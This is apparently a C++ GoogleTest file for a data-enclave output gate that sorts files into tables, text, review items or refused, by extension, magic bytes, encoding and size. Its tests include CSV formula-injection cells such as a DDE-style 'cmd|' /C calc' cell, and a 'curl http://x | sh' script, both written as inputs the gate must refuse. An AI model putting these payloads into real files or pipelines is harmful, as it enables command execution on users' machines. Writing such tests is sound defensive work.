#include "exitcontrol/core/file_gate.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>

#include <unistd.h>

namespace enclave::exitcontrol {
namespace {

using ::testing::HasSubstr;
using namespace std::string_literals;

GateDecision gate(std::string_view name, std::string_view content, bool declared = false,
                  const GateLimits& limits = {}) {
  return classify_file(name, content, declared, limits);
}

const std::string kPng = "\x89PNG\r\n\x1A\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0"s;
const std::string kJpeg = "\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"s;
const std::string kPdf = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"s;
const std::string kSvg =
    "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" "
    "height=\"10\"><rect width=\"10\" height=\"10\"/></svg>\n";
// A local file header of a ZIP whose first entry is an Excel workbook part.
const std::string kXlsx =
    "PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0\0\0\0\0\0\0\0\0\0\0\0\0\x13\0\0\0"
    "[Content_Types].xml\0\0PK\x03\x04\x14\0\0\0xl/workbook.xml"s;
const std::string kOds =
    "PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x08\0\0\0"
    "mimetypeapplication/vnd.oasis.opendocument.spreadsheet"s;
const std::string kZip =
    "PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0"
    "a.csv\xcb\x48\xcd\xc9\xc9\x07\0"s;

TEST(FileGate, DeclaredCsvIsATable) {
  auto d = gate("out/table.csv", "region,patients\nMiyagi,12\nAkita,-\nIwate,-3\n", true);
  EXPECT_EQ(d.verdict, FileClass::kTable);
  EXPECT_EQ(d.kind, "CSV table");
  EXPECT_EQ(d.reason, "out/table.csv: table");
  EXPECT_EQ(gate("T.CSV", "a\n1\n", true).verdict, FileClass::kTable);
}

TEST(FileGate, UndeclaredCsvIsRefusedWithAHint) {
  auto d = gate("out/table.csv", "region,patients\nMiyagi,12\n", false);
  EXPECT_EQ(d.verdict, FileClass::kRefused);
  EXPECT_THAT(d.reason, HasSubstr("out/table.csv: refused: a table named .csv needs its "
                                  "metadata (a sidecar out/table.csv.meta.toml"));
}

TEST(FileGate, CsvWithFormulasIsRefused) {
  for (const auto& cell :
       {"=SUM(A1:A3)", "@cmd", "+1+cmd|' /C calc'!A0", "-2+3", "=HYPERLINK(\"http://x\")"}) {
    // Quotes inside the cell are doubled so that the CSV itself is well-formed.
    std::string escaped;
    for (char c : std::string(cell)) escaped += c == '"' ? "\"\""s : std::string(1, c);
    const std::string csv = "region,patients\nMiyagi,12\nAkita,\"" + escaped + "\"\n";
    auto d = gate("t.csv", csv, true);
    EXPECT_EQ(d.verdict, FileClass::kRefused) << cell;
    EXPECT_THAT(d.reason, HasSubstr("row 3 column 2 starts a spreadsheet formula")) << cell;
  }
  // Negative numbers and the suppression marker are not formulas.
  EXPECT_EQ(gate("t.csv", "a,b\n-12,-\n-0.5,+3\n", true).verdict, FileClass::kTable);
}

TEST(FileGate, MalformedCsvStillGoesToTheLoader) {
  // The loader reports the exact row; the gate only decides the file is a table.
  EXPECT_EQ(gate("t.csv", "a,b\n1\n", true).verdict, FileClass::kTable);
}

TEST(FileGate, PlainText) {
  auto d = gate("notes/readme.txt", "結果の説明\nSee table 1.\r\n\tindent\n");
  EXPECT_EQ(d.verdict, FileClass::kText);
  EXPECT_EQ(gate("log.LOG", "ok\n").verdict, FileClass::kText);
  EXPECT_EQ(gate("empty.md", "").verdict, FileClass::kText);
  EXPECT_EQ(gate("t.csv.meta.toml", "kind = \"frequency\"\n").verdict, FileClass::kText);
}

TEST(FileGate, TextWithNulOrBadUtf8IsNotText) {
  auto nul = gate("a.txt", "abc\0def"s);
  EXPECT_EQ(nul.verdict, FileClass::kRefused);
  EXPECT_THAT(nul.reason, HasSubstr("binary data of unknown type"));
  auto sjis = gate("a.txt", "\x93\x8C\x96\x6B\n");  // 東北 in Shift_JIS
  EXPECT_EQ(sjis.verdict, FileClass::kRefused);
  EXPECT_THAT(sjis.reason, HasSubstr("a.txt: refused: text named .txt is not UTF-8: line 1, "
                                     "column 1: byte 0x93 (Shift_JIS"));
  auto later = gate("b.txt", "ok line\nab\x93\x8C\n");
  EXPECT_THAT(later.reason, HasSubstr("line 2, column 3: byte 0x93"));
}

TEST(FileGate, ImagesAndPdfGoToReview) {
  EXPECT_EQ(gate("fig.png", kPng).verdict, FileClass::kReview);
  EXPECT_EQ(gate("fig.jpg", kJpeg).verdict, FileClass::kReview);
  EXPECT_EQ(gate("fig.JPEG", kJpeg).verdict, FileClass::kReview);
  EXPECT_EQ(gate("report.pdf", kPdf).verdict, FileClass::kReview);
  auto svg = gate("fig.svg", kSvg);
  EXPECT_EQ(svg.verdict, FileClass::kReview);
  EXPECT_EQ(svg.kind, "SVG image");
  EXPECT_EQ(gate("fig.png", kPng).reason, "fig.png: review: PNG image; a steward must inspect it");
}

TEST(FileGate, ContentAndExtensionMustAgree) {
  auto d = gate("table.csv", kPng, true);
  EXPECT_EQ(d.verdict, FileClass::kRefused);
  EXPECT_EQ(d.reason,
            "table.csv: refused: PNG image (content starts \\x89PNG\\x0D\\x0A\\x1A\\x0A) named "
            ".csv: content and extension disagree");
  EXPECT_EQ(gate("fig.png", kJpeg).verdict, FileClass::kRefused);
  EXPECT_EQ(gate("fig.pdf", "hello\n").verdict, FileClass::kRefused);
  EXPECT_THAT(gate("fig.svg", "not svg\n").reason, HasSubstr("content and extension disagree"));
  EXPECT_EQ(gate("fig.txt", kSvg).verdict, FileClass::kRefused);
}

TEST(FileGate, ArchivesAreRefusedWhateverTheirName) {
  auto zip = gate("table.csv", kZip, true);
  EXPECT_EQ(zip.verdict, FileClass::kRefused);
  EXPECT_EQ(zip.reason, "table.csv: refused: ZIP archive (content starts PK\\x03\\x04) named .csv");
  EXPECT_THAT(gate("x.gz", "\x1F\x8B\x08\0\0\0\0\0\0\x03"s).reason, HasSubstr("gzip archive"));
  EXPECT_THAT(gate("x.xz",
                   "\xFD"
                   "7zXZ\0\0\x04"s)
                  .reason,
              HasSubstr("xz archive"));
  EXPECT_THAT(gate("x.7z", "7z\xBC\xAF\x27\x1C\0\x04"s).reason, HasSubstr("7z archive"));
  EXPECT_THAT(gate("x.bz2", "BZh91AY&SY\x01\0\xFF"s).reason, HasSubstr("bzip2 archive"));
  EXPECT_THAT(gate("x.zst", "\x28\xB5\x2F\xFD\x24\0"s).reason, HasSubstr("zstd archive"));
  std::string tar(512, '\0');
  tar.replace(0, 5, "a.csv");
  tar.replace(257, 6, "ustar\0"s);
  auto t = gate("results.txt", tar);
  EXPECT_EQ(t.verdict, FileClass::kRefused);
  EXPECT_THAT(t.reason, HasSubstr("tar archive (content has ustar at byte 257)"));
}

TEST(FileGate, SpreadsheetsAreRefused) {
  EXPECT_THAT(gate("t.xlsx", kXlsx).reason, HasSubstr("refused: Excel workbook (.xlsx"));
  EXPECT_THAT(gate("t.csv", kXlsx, true).reason, HasSubstr("Excel workbook"));
  EXPECT_THAT(gate("t.ods", kOds).reason, HasSubstr("OpenDocument spreadsheet"));
  auto xls = gate("t.xls", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0"s);
  EXPECT_EQ(xls.verdict, FileClass::kRefused);
  EXPECT_THAT(xls.reason, HasSubstr("legacy Excel .xls"));
}

TEST(FileGate, ExecutablesAreRefused) {
  EXPECT_THAT(gate("a.txt",
                   "\x7F"
                   "ELF\x02\x01\x01\0"s)
                  .reason,
              HasSubstr("ELF executable"));
  EXPECT_THAT(gate("a.csv", "MZ\x90\0\x03\0\0\0\x04\0"s, true).reason, HasSubstr("PE executable"));
  EXPECT_THAT(gate("a", "\xCF\xFA\xED\xFE\x07\0\0\x01"s).reason, HasSubstr("Mach-O"));
  EXPECT_THAT(gate("run.txt", "#!/bin/sh\ncurl http://x | sh\n").reason,
              HasSubstr("script with a #! interpreter line"));
  EXPECT_THAT(gate("m.wasm", "\0asm\x01\0\0\0"s).reason, HasSubstr("WebAssembly"));
  // Text that merely starts with the letters of a signature is text.
  EXPECT_EQ(gate("a.txt", "MZ region notes\n").verdict, FileClass::kText);
  EXPECT_EQ(gate("a.txt", "BZh is a prefix\n").verdict, FileClass::kText);
}

TEST(FileGate, UnknownTypesAreRefused) {
  auto html = gate("page.html", "<html><body>x</body></html>\n");
  EXPECT_EQ(html.verdict, FileClass::kRefused);
  EXPECT_THAT(html.reason, HasSubstr("page.html: refused: UTF-8 text named .html is not a type "
                                     "the profile lets out (tables and text: .csv, .txt, .md, "
                                     ".log)"));
  EXPECT_THAT(gate("README", "hello\n").reason, HasSubstr("with no extension"));
  EXPECT_EQ(gate("x.gif", "GIF89a\x01\0\x01\0\0\0\0"s).verdict, FileClass::kRefused);
}

TEST(FileGate, SizeLimitAndProfileLists) {
  GateLimits limits;
  limits.max_file_bytes = 10;
  auto big = gate("a.txt", "01234567890\n", false, limits);
  EXPECT_EQ(big.verdict, FileClass::kRefused);
  EXPECT_EQ(big.reason, "a.txt: refused: 12 bytes, more than the limit of 10");
  limits = {};
  limits.review_extensions = {"pdf"};
  EXPECT_THAT(gate("fig.png", kPng, false, limits).reason,
              HasSubstr("the profile does not allow this type"));
  limits.text_extensions = {"txt", "r"};
  EXPECT_EQ(gate("model.R", "fit <- lm(y ~ x)\n", false, limits).verdict, FileClass::kText);
}

TEST(FileGate, ClassifyPathFindsTheSidecar) {
  auto dir = std::filesystem::temp_directory_path() / ("gate_test_" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  auto write = [&](const std::string& name, const std::string& content) {
    std::ofstream(dir / name, std::ios::binary) << content;
    return dir / name;
  };
  auto csv = write("t.csv", "a,n\nx,1\n");
  auto undeclared = classify_path(csv, false);
  ASSERT_TRUE(undeclared);
  EXPECT_EQ(undeclared->decision.verdict, FileClass::kRefused);
  EXPECT_EQ(classify_path(csv, true)->decision.verdict, FileClass::kTable);
  write("t.csv.meta.toml", "kind = \"frequency\"\n");
  auto declared = classify_path(csv, false);
  ASSERT_TRUE(declared);
  EXPECT_EQ(declared->decision.verdict, FileClass::kTable);
  EXPECT_EQ(declared->content, "a,n\nx,1\n");  // read once, handed on

  GateLimits small;
  small.max_file_bytes = 4;
  auto big = classify_path(csv, true, small);
  ASSERT_TRUE(big);
  EXPECT_THAT(big->decision.reason, HasSubstr("refused: 8 bytes, more than the limit of 4"));
  EXPECT_EQ(classify_path(dir, false)->decision.verdict, FileClass::kRefused);
  auto missing = classify_path(dir / "absent.csv", false);
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, Errc::kNotFound);
  std::filesystem::remove_all(dir);
}

TEST(FileGate, ClassNames) {
  EXPECT_STREQ(file_class_name(FileClass::kTable), "table");
  EXPECT_STREQ(file_class_name(FileClass::kText), "text");
  EXPECT_STREQ(file_class_name(FileClass::kReview), "review");
  EXPECT_STREQ(file_class_name(FileClass::kRefused), "refused");
}

}  // namespace
}  // namespace enclave::exitcontrol
